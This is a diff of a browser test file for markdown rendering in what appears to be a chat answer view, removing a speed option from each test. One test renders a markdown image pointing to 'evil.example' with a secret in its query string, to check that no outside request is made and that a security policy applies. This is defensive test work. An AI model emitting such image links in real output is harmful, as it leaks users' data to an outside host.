@@ -17,7 +17,7 @@ async function show(visitor: Visitor, source: string): Promise<void> {
 
 describe('Markdown in an answer', () => {
   test('aligns the columns of tables', async () => {
-    const visitor = await visit({ speed: 400 })
+    const visitor = await visit()
     await show(visitor, '| a | b | c |\n| :-- | :-: | --: |\n| 1 | 2 | 3 |\n')
     const alignments = await visitor.page
       .locator('.prose td')
@@ -26,7 +26,7 @@ describe('Markdown in an answer', () => {
   })
 
   test('shows task lists', async () => {
-    const visitor = await visit({ speed: 400 })
+    const visitor = await visit()
     await show(visitor, '- [x] book\n- [ ] pack\n')
     const tasks = visitor.page.locator('.prose li [role=img]')
     expect(await tasks.evaluateAll((all) => all.map((task) => task.getAttribute('aria-label')))).toEqual([
@@ -37,7 +37,7 @@ describe('Markdown in an answer', () => {
   })
 
   test('scrolls a wide table inside the card of a phone, also by keyboard', async () => {
-    const visitor = await visit({ viewport: { width: 360, height: 740 }, speed: 400 })
+    const visitor = await visit({ viewport: { width: 360, height: 740 } })
     const row = (cell: string) => `|${` ${cell} |`.repeat(9)}\n`
     await show(visitor, `${row('heading')}${row('---')}${row('cell text')}`)
     expect(await overflowOf(visitor.page)).toEqual([])
@@ -48,14 +48,14 @@ describe('Markdown in an answer', () => {
   })
 
   test('replaces a broken image by its description', async () => {
-    const visitor = await visit({ speed: 400 })
+    const visitor = await visit()
     await show(visitor, 'Look: ![a river](data:image/png;base64,iVBORw0KGgo=)\n')
     await visitor.page.locator('.prose .broken').getByText('a river').waitFor()
     expect(await visitor.page.locator('.prose img').count()).toBe(0)
   })
 
   test('loads nothing from another host: an image there is a link, and the page has a security policy', async () => {
-    const visitor = await visit({ speed: 400, expected: /Content Security Policy/ })
+    const visitor = await visit({ expected: /Content Security Policy/ })
     const requests: string[] = []
     visitor.page.on('request', (request) => requests.push(request.url()))
     await show(visitor, '![secrets](https://evil.example/x.png?secret=1)\n')
@@ -73,7 +73,7 @@ describe('Markdown in an answer', () => {
   })
 
   test('copies code without its language', async () => {
-    const visitor = await visit({ speed: 400, permissions: ['clipboard-read', 'clipboard-write'] })
+    const visitor = await visit({ permissions: ['clipboard-read', 'clipboard-write'] })
     const run = await visitor.ask('How does Stop work?')
     await run.reaches('complete')
     await run.card.getByRole('button', { name: 'Copy code' }).click()
@@ -100,7 +100,7 @@ describe('Markdown in an answer', () => {
 })
 
 test('a long list is read item by item: a token parses its own item only', async () => {
-  const visitor = await visit({ speed: 400 })
+  const visitor = await visit()
   await visitor.page.evaluate(
     "import('/src/markdown/blocks.ts').then(({ createBlockReader }) => Object.assign(window, { createBlockReader }))",
   )
